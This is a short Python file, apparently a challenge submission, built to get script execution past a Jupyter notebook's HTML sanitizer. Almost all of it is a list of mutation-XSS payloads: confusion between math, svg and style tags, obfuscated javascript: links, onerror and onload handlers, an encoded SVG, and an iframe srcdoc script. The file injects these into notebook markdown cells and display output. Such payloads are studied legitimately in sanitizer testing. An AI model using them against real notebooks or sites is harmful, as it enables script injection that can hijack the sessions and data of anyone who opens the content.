"""Markup that changes its meaning when it is parsed a second time."""

import nbformat

SCORE = 5
SOLVED = True
EVIL = """\
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">
<svg><style><img title="</style><img src=x onerror=evil()>"></svg><svg><a xlink:href="javascript:evil()"><text>x
<math><annotation-xml encoding="text/html"><script>evil()</script></annotation-xml></math>
<math href="javascript:evil()">x</math><maction actiontype="statusline#http://evil.example">x</maction>
<svg><animate xlink:href=#x attributeName=href values=javascript:evil() /><a id=x><use href="data:image/svg+xml,x#y">
<svg><foreignObject><iframe srcdoc="<script>evil()</script>"></iframe></foreignObject></svg><![CDATA[<img src=x>]]>
<listing>&lt;img onerror=evil() src=x&gt;</listing><xmp><img src=x onerror=evil()></xmp><plaintext>
<a href="jav&#x09;ascript:evil()">x</a><a href="&#1;javascript:evil()">x</a><a href="data:text/html,<script>">x</a>
<img srcset="//evil.example 1x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZXZpbCgpPg=="><image src=x>
"""
CELL = f"""\
from IPython.display import display, HTML, Latex, Markdown, SVG
display(HTML({EVIL!r}), Markdown({EVIL!r}), Latex({EVIL!r}))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>", "image/jpeg": "x onerror=evil()",
         "application/javascript": "evil()", "text/vnd.mermaid": "x", "application/pdf": "JVBERi0=",
         "application/vnd.plotly.v1+json": {{"data": ["<script>evil()</script>"]}}}}, raw=True)
"""


def hand_in(folder, notebook):
    notebook.cells += [nbformat.v4.new_markdown_cell(line) for line in EVIL.splitlines()]
